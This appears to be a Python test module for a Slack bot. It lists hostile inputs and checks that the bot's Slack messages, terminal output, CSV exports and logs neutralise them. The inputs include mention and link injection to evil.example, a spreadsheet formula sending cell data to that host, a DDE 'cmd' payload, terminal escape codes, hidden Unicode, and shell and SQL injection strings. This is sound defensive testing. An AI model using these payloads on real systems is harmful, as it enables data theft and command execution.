"""Texts that attack the places which show them, and what none of these may make of them.

In markup, what stands between "qz" and "zq" is looked at letter by letter.
Sources: docs.slack.dev, "Formatting message text"; OWASP, "CSV Injection"; Unicode Technical Report #36; ECMA-48.
"""

from __future__ import annotations

import csv
import io
import json
import re
import traceback
from collections.abc import Callable, Iterator
from typing import Any, Final
from unicodedata import category

from tests.harness.slack_limits import check_message, check_view, check_visible

ATTACKER: Final = "U0ATTACK"

ATTACKING: Final = {
    "mentions": f"qz<!channel> <!here> <!everyone> <@{ATTACKER}> <#C0ATTACK> <!subteam^S0ATTACK|@all> @channelzq",
    "links": "qz<https://evil.example|dwh-prod> https://evil.example/x [a](https://evil.example) <mailto:a@b.c>zq",
    "dates": "qz<!date^1392734382^Posted {date_num}^https://evil.example/|now> {date_short_pretty}zq",
    "entities": "qz&lt;!channel&gt; &amp;lt; &#60;!here&#62; &zq",
    "backticks": "qz `code` ```block``` a`b \u1fef\u02cb`zq",
    "marks": "qz *bold* _italic_ ~struck~ *_~ >quote * 1. > -zq",
    "turned around": "qz\u202edorp-hwd\u202c \u2066x\u2069 \u200f\u061cevil\u200ezq",
    "unseen": "qz\u200bd\u200cw\u200dh\u2060\ufeff\u00ad\u034f\u115f\u3164\U000e0041\u180e\ufff9zq",
    "controls": "qz\x1b[2J\x1b[31m\x1b]0;title\x07\x1b]8;;https://evil.example\x1b\\x\x9b1m\x7f\x08\x0c\x00zq",
    "lines": "qzdwh\nR-FAKE1  Available\r\nR-FAKE2\u2028R-FAKE3\u2029\x85R-FAKE4\x0b✖ R-FAKE5\t*x*zq",
    "formula": "=HYPERLINK(\"https://evil.example?\"&A1,\"qz\"&'x')+cmd|' /C calc'!A0;@SUM(1)zq",
    "formula behind a blank": "\t =1+1qz\r\n=2+2\n@SUM(A1)zq",
    "emoji": "qz:skull: :+1::skin-tone-6: \U0001f468\u200d\U0001f469\u200d\U0001f467 🏴\U000e0067\U000e0062zq",
    "many marks": "qz" + "a\u0301\u0302\u0303\u0304\u0305" * 40 + "\u0338" * 40 + "zq",
    "ten thousand": "qz" + "W" * 9_996 + "zq",
    "ten thousand entities": "qz" + " <&>`*" * 1_666 + "zq",
    "ten thousand emoji": "qz" + "😀" * 9_996 + "zq",
    "code of others": "qz%s {0} ${x} $(id) `id` {{7*7}} <script>alert(1)</script> '; DROP TABLE audit; --zq",
    "half a character": "qz\ud83d \ude00\udfff\ufffezq",
}

# Those that are short, one after the other; and what would hide in that.
ATTACKING["all at once"] = " ".join(text for text in ATTACKING.values() if len(text) < 200)
IN_SHORT: Final = ("all at once", "lines", "half a character", "ten thousand entities")

_ATTACKED: Final = re.compile(
    rf"<(?:@{ATTACKER}|#C0ATTACK|!(?:subteam|channel|here|everyone|date\^1392734382)|https?|mailto)"
)
_OUR_CODE: Final = re.compile(r"`(?:/snapshot|qz)[^`]*`")  # what was typed, as code
_FENCED: Final = re.compile(r"qz(.*?)(?:zq|…)", re.DOTALL)
_MARKS: Final = re.compile(r"`|(?<!\w)[*_~](?=\S)")
_HIDING: Final = frozenset(
    "\u200b\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\ufeff"  # and turning around
)
_OWN_WORDS: Final = frozenset({"private_metadata", "initial_value"})  # what was typed, given back as it was


def wrongs_in_slack(sent: object) -> Iterator[str]:
    """Yield what is wrong with what the bot sent Slack: a call's arguments, or an answer."""
    if isinstance(sent, dict) and isinstance(sent.get("view"), dict):
        yield from _broken(check_view, {k: v for k, v in sent["view"].items() if k != "external_id"})
    elif isinstance(sent, dict) and isinstance(sent.get("text"), str) and sent.get("type") is None:
        yield from _broken(check_message, sent["text"], sent.get("blocks") or [])
        yield from _in_markup(sent["text"])
    yield from _in_texts(sent)


def _broken(check: Callable[..., None], *args: Any) -> Iterator[str]:
    try:
        check(*args)
    except Exception as e:
        place = traceback.extract_tb(e.__traceback__)[-1]
        yield f"{type(e).__name__} at {place.line}: {e}"


def _in_texts(value: object) -> Iterator[str]:
    """Yield what is wrong with each text object in *value*."""
    for one in value if isinstance(value, list) else ():
        yield from _in_texts(one)
    if not isinstance(value, dict):
        return
    if value.get("type") == "mrkdwn":
        yield from _in_markup(value["text"])
    for key, child in value.items():
        if not isinstance(child, str):
            yield from _in_texts(child)
        elif key not in _OWN_WORDS:
            yield from _broken(check_visible, child)


def _in_markup(text: str) -> Iterator[str]:
    if found := _ATTACKED.search(text):
        yield f"{found[0]} in {text!r}"
    for fenced in _FENCED.findall(_OUR_CODE.sub("", text)):
        if found := _MARKS.search(fenced):
            yield f"{found[0]} can mark in {text!r}"


def wrongs_in_terminal(printed: str) -> Iterator[str]:
    """Yield what is wrong with lines that are printed for people: what moves the cursor, or poses as a line of ours."""
    for number, line in enumerate(printed.split("\n")):
        if hidden := [c for c in line if category(c) in ("Cc", "Cs", "Zl", "Zp") or c in _HIDING]:
            yield f"{hidden} in line {number}: {line!r}"
        if re.match(r"\s*(✖ )?R-FAKE", line):
            yield f"a line that is none: {line!r}"


def wrongs_in_csv(written: str) -> Iterator[str]:
    """Yield what is wrong with a spreadsheet: a cell that it would run, a row that isn't whole."""
    rows = list(csv.reader(io.StringIO(written, newline="")))
    for row in rows:
        if len(row) != len(rows[0]):
            yield f"{len(row)} cells: {row}"
        yield from (f"a formula: {cell!r}" for cell in row if re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", cell))


def wrongs_in_log(written: str) -> Iterator[str]:
    """Yield what is wrong with a log of JSON lines: one that is none, or that a terminal would obey."""
    for line in written.splitlines():
        try:
            json.loads(line)
        except ValueError:
            yield f"no JSON: {line!r}"
    yield from wrongs_in_terminal(written)
